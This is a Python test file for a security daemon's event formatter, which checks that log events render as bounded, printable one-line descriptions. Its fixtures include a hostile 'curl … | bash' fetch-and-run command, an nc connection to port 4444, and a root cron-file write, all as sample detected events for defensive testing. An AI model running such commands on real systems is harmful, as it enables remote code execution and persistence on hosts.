"""An event says who did what, in one printable line."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.enrichment.event_words import key_fields, say_event
from daemon.model import Event, Logsource, Value
from tests.doubles.told_incidents import AT, event


def of(category: str, text: str = "", **fields: Value) -> Event:
    return Event("e", AT, "web01", "s", Logsource(category=category), fields, text)


@pytest.mark.parametrize(
    ("told", "words"),
    [
        (
            event(),
            "execve by www-data: curl -fsSL http://203.0.113.7/x0.sh | bash (parent /usr/sbin/apache2, pid 4242)",
        ),
        (
            of("file_event", TargetFilename="/etc/cron.d/x", Image="/usr/bin/tee", User="root"),
            "file written by root with /usr/bin/tee: /etc/cron.d/x",
        ),
        (
            of("network_connection", DestinationIp="203.0.113.7", DestinationPort=4444, Image="/usr/bin/nc"),
            "connection made to 203.0.113.7:4444 with /usr/bin/nc",
        ),
        (
            of("network_connection", DestinationIp="2001:db8::1", DestinationPort="22", Initiated="false"),
            "connection accepted at [2001:db8::1]:22",
        ),
        (of("evidence_loss", source="audit", why="rotation", count=7), "7 events of audit lost: rotation"),
        (
            of("evidence_loss", source="audit", why="rotation", count=None),
            "an unknown number of events of audit lost: rotation",
        ),
        (
            of("", "Failed password for root from 203.0.113.9 port 22 ssh2"),
            "Failed password for root from 203.0.113.9 port 22 ssh2",
        ),
        (of("process_creation", "raw record"), "raw record"),
        (of(""), "an event without text"),
    ],
)
def test_events_in_words(told: Event, words: str) -> None:
    assert say_event(told) == words


def test_readings_come_before_what_is_derived_from_them() -> None:
    fields: dict[str, Value] = {"cpu.percent.zscore": 4.5, "cpu.percent": 99.1, "disk.mount": "/var"}
    told = Event("e", AT, "h", "host", Logsource(category="host_metrics"), fields, "")
    assert say_event(told) == "cpu.percent = 99.1, cpu.percent.zscore = 4.5, disk.mount = /var"


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (22370004992.0, "22370004992"), (1234567.89, "1234568"), (91.83673469, "91.8367"), (0.5, "0.5"), (0.0, "0"),
        (-86400.25, "-86400.2"), (1e300, "1e+300"), (7, "7"),
    ],
)  # fmt: skip
def test_numbers_are_readable(value: float, said: str) -> None:
    told = Event("e", AT, "h", "host", Logsource(category="host_metrics"), {"x.y": value}, "")
    assert say_event(told) == f"x.y = {said}"


def test_a_reading_says_what_made_it_so() -> None:
    words = tuple(f"{90 - number} % of a core, pid {number} of alice: loop" for number in range(5))
    fields: dict[str, Value] = {"cpu.percent": 99.123456789, "top.cpu": words, "top.none": ()}
    told = Event("e", AT, "h", "host", Logsource(category="host_metrics"), fields, "")
    assert say_event(told) == f"cpu.percent = 99.1235; top.cpu: {', '.join(words[:3])}"
    assert key_fields(told)["cpu.percent"] == "99.1235"
    assert "pid 0 of alice" in key_fields(told)["top.cpu"]


def test_what_a_rule_read_is_said_of_many_readings() -> None:
    """Evidence puts it first: what is derived of a gauge must not give way to other gauges."""
    fields: dict[str, Value] = {"cpu.percent.zscore": 9.0, **{f"z{number}.x": 1.0 for number in range(50)}}
    told = Event("e", AT, "h", "host", Logsource(category="host_metrics"), fields, "")
    assert "cpu.percent.zscore = 9" in say_event(told)


def test_hostile_text_is_inert_and_bounded() -> None:
    said = say_event(event(CommandLine="\x1b[2J\u202e\U000e0049" + "A" * 5_000_000))
    assert said.isprintable()
    assert len(said) <= 600
    assert "…" in said


def test_key_fields_are_bounded_text_with_the_known_ones_first() -> None:
    many: dict[str, Value] = {f"z{n}": "x" * 1000 for n in range(10_000)}
    fields = key_fields(Event("e", AT, "h", "s", Logsource(), many | {"User": ("a", "b"), "uid": 0}, ""))
    assert len(fields) == 16
    assert list(fields)[:2] == ["User", "uid"]
    assert fields["User"] == "a, b"
    assert all(len(value) <= 200 for value in fields.values())


VALUES = st.one_of(
    st.text(st.characters(exclude_categories=[])),
    st.integers(),
    st.floats(),
    st.booleans(),
    st.none(),
    st.tuples(st.text()),
)


@given(
    st.sampled_from(["process_creation", "file_event", "network_connection", "host_metrics", "evidence_loss", "?"]),
    st.dictionaries(
        st.sampled_from(["User", "CommandLine", "TargetFilename", "DestinationIp", "count", "x\n"]), VALUES
    ),
    st.text(st.characters(exclude_categories=[])),
)
def test_any_event_can_be_told(category: str, fields: dict[str, Value], text: str) -> None:
    told = Event("e", AT, "h", "s", Logsource(category=category), fields, text)
    assert say_event(told)
    assert say_event(told).isprintable()
    assert all(isinstance(value, str) for value in key_fields(told).values())
